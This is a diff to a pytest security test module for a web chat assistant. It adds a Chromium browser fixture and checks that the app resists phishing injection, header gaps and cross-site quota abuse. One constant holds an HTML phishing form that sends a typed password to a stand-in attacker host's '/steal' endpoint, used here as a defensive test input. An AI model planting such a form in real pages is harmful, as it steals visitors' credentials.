@@ -8,11 +8,12 @@ from __future__ import annotations
 import http.server
 import json
 import logging
+from pathlib import Path
 
 import pytest
 import requests
 
-from .web_fixtures import browser, serve_app, serve_folder, serve_handler, web_container  # noqa: F401
+from .web_fixtures import CHROMIUM_ARGS, serve_app, serve_folder, serve_handler, web_container
 
 pytestmark = pytest.mark.slow
 QUESTION = "What does Article 25 say?"
@@ -20,6 +21,19 @@ TEXTBOX = 'textarea[data-testid="textbox"]'
 BOT = '[data-testid="bot"]'
 PHISH = ('<form action="{evil}/steal" method="get"><input name="pw" type="password" placeholder="Password">'
          '<button id="signin">Sign in</button></form>')
+
+
+@pytest.fixture(scope="module")
+def browser():
+    """Chromium for this module only: a session-wide one would stay open while other modules
+    start their own Playwright (which cannot run beside another in one thread)."""
+    sync_api = pytest.importorskip("playwright.sync_api")
+    if not Path("/usr/bin/chromium").exists():
+        pytest.skip("Chromium is not installed at /usr/bin/chromium (apt-get install chromium)")
+    with sync_api.sync_playwright() as p:
+        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
+        yield b
+        b.close()
 
 
 class Records(logging.Handler):
@@ -81,7 +95,7 @@ def chat_fn(url: str, inputs: list[str], outputs: list[str]) -> int:
                 if [types[i] for i in d["inputs"]] == inputs and [types[i] for i in d["outputs"]] == outputs)
 
 
-def test_1_a_deep_link_cannot_show_a_phishing_form(app_url, evil, browser):  # noqa: F811
+def test_1_a_deep_link_cannot_show_a_phishing_form(app_url, evil, browser):
     s = session()
     fn = chat_fn(app_url, ["chatbot"], ["chatbot", "textbox"])  # hands a chatbot value back
     msgs = [{"role": "assistant", "content": [{"type": "text", "text": PHISH.format(evil=evil[0])}]},
@@ -179,7 +193,7 @@ def test_10_page_policy_and_referrer_on_every_html_page(app_url):
     assert s.get(f"{app_url}/docs-assets/swagger-ui-bundle.js").status_code == 200
 
 
-def test_6_another_site_cannot_burn_a_visitors_quota(settings, embedder, browser, tmp_path):  # noqa: F811
+def test_6_another_site_cannot_burn_a_visitors_quota(settings, embedder, browser, tmp_path):
     from assistant.web import build_app
 
     app = build_app(web_container(settings, embedder, rate_limit="5/minute"))
